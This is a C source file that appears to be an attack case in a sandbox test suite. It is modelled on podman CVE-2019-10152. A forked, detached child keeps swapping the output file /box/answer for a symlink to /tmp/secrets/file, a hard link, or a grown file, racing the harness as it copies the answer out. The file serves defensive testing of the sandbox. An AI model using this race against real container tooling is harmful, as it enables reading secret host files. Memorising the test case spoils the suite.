/* Case: C205 podman-copy-race
 * Attacks: nothing-left
 * Seen: podman CVE-2019-10152
 * Run: link => held
 * Run: hard => held
 * Run: grow => held
 * Collect: answer
 * Judge: poll /box/answer
 * Undefended: left
 * Control: leaves nothing
 *
 * Copying out while the container still runs is a race of its own: the program ends, its child goes on and changes the
 * answer's name between two looks. The answer is taken when the last process is dead, and by then it is a link. */
#include <sys/stat.h>

#include "attack.h"

static _Noreturn void go_on(const char *how)
{
	setsid();
	for (;;) {
		unlink("/box/answer");
		if (strcmp(how, "grow") == 0)
			truncate("/box/answer", 1 << 20);
		if (strcmp(how, "hard") == 0)
			link("/box/twin", "/box/answer");
		else
			symlink("/tmp/secrets/file", "/box/answer");
	}
}

int main(int argc, char **argv)
{
#ifdef CONTROL
	(void)argc, (void)argv, (void)go_on;
	return fine();
#endif
	close(open("/box/twin", O_WRONLY | O_CREAT, 0644));
	if (fork() == 0)
		go_on(argc > 1 ? argv[1] : "link");
	usleep(20000);
	return HELD;
}
